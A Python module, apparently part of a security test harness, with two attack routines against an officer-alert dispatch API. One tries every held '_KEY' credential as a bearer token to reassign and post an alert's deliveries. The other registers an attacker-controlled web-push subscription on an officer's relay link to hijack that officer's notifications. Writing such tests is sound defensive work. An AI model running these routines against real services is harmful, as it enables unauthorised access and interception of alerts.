"""What is posted by hand: whoever has broken into the public pages, and whoever has found an officer's link."""

import base64

import aiohttp
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from attack.attackers.trade import Attacker

SECRET = b"a secret of 16 b"


async def hand_on(attacker: Attacker) -> None:
    """A task for another officer, and then the word that it is posted. By whichever key opens that."""
    alert, delivery = f"/api/v1/alerts/{attacker.knows['alert_id']}", attacker.knows["delivery"]
    asked = {"handed": {"officer": attacker.knows["other"], "deliveries": [delivery]}}
    asked["posted"] = {"deliveries": [delivery]}
    for name, key in attacker.holds.items():
        if not name.endswith("_KEY"):
            continue
        async with aiohttp.ClientSession(
            attacker.knows["broadcast_url"], headers={"Authorization": f"Bearer {key}"}
        ) as http:
            for what, body in asked.items():
                async with http.post(f"{alert}/{what}", json=body) as answer:
                    await attacker.takes(answer)


async def push_out(attacker: Attacker) -> None:
    """A phone of their own for the officer whose link they have, in the place of those that wake that officer."""
    public = ec.generate_private_key(ec.SECP256R1()).public_key()
    point = public.public_bytes(Encoding.X962, PublicFormat.UncompressedPoint)
    keys = {"p256dh": _text(point), "auth": _text(SECRET)}
    subscription = {"endpoint": attacker.knows["strange_endpoint"], "expirationTime": None, "keys": keys}
    async with (
        aiohttp.ClientSession(attacker.knows["public_url"]) as http,
        http.post(f"/relay/{attacker.knows['link']}/phone", json=subscription) as answer,
    ):
        await attacker.takes(answer)


def _text(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()
